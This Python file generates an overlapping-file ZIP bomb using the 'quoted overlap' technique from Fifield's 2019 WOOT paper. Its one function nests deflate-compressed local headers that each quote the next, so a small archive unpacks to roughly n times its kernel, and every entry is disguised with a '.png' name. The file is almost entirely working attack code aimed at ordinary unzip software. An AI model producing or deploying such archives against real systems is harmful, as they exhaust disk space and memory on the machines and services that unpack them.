"""A ZIP whose files lie over each other: each holds the next one's header quoted and then the same bytes."""

import struct
import zlib


def overlapped(n: int, kernel: bytes) -> bytes:
    """Return an archive of so many files that unpacks to about `n` times a kernel and holds it once.

    References:
        Fifield, A better zip bomb (USENIX WOOT 2019), "quoted overlap".
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed, plain, files = packer.compress(kernel) + packer.flush(), kernel, []
    for k in reversed(range(n)):
        name = f"{k:04d}.png".encode()
        sizes = struct.pack("<III", zlib.crc32(plain), len(packed), len(plain))
        local = (
            struct.pack("<4sHHHHH", b"PK\x03\x04", 20, 0, 8, 0, 0x21) + sizes + struct.pack("<HH", len(name), 0) + name
        )
        files.append((name, sizes, len(local) + len(packed)))
        body, plain = local + packed, local + plain
        packed = struct.pack("<BHH", 0, len(local), 0xFFFF - len(local)) + body
    listed = b"".join(
        struct.pack("<4sHHHHHH", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21)
        + sizes
        + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, len(body) - length)
        + name
        for name, sizes, length in files
    )
    return body + listed + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, n, n, len(listed), len(body), 0)
